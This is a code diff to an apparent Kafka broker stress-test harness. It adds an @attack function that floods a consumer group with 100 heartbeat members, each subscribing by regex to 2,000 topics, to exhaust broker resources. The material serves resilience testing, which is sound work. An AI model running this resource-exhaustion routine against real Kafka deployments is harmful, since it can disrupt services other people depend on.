@@ -34,6 +34,7 @@ from kafka_wire import (
     AlterReplicaLogDirsRequestDirTopic,
     ApiVersionsRequest,
     ConfigResourceType,
+    ConsumerGroupHeartbeatRequest,
     CreateTopicsRequest,
     CreateTopicsRequestTopic,
     DeleteTopicsRequest,
@@ -296,6 +297,25 @@ def metadata_creates(victim: Target) -> int:
         topics = [MetadataRequestTopic(name=f"made-{number}") for number in range(2000)]
         response = client.call(MetadataRequest(topics=topics, allow_auto_topic_creation=True), 12)
         assert [topic.error_code for topic in response.topics] == [0] * 2000
+        return client.sent
+
+
+@attack("ConsumerGroupHeartbeat v1: 100 members, each with its own pattern of 2,000 topics")
+def join_with_patterns(victim: Target) -> int:
+    with Attacker(victim.port) as client:
+        client.socket.settimeout(600)
+        for number in range(100):
+            response = client.call(
+                ConsumerGroupHeartbeatRequest(
+                    group_id="patterns",
+                    member_id=f"m{number}",
+                    rebalance_timeout_ms=60_000,
+                    subscribed_topic_regex=f"made-.*|{number}",
+                    topic_partitions=[],
+                ),
+                1,
+            )
+            assert response.error_code == 0, response
         return client.sent
 
 
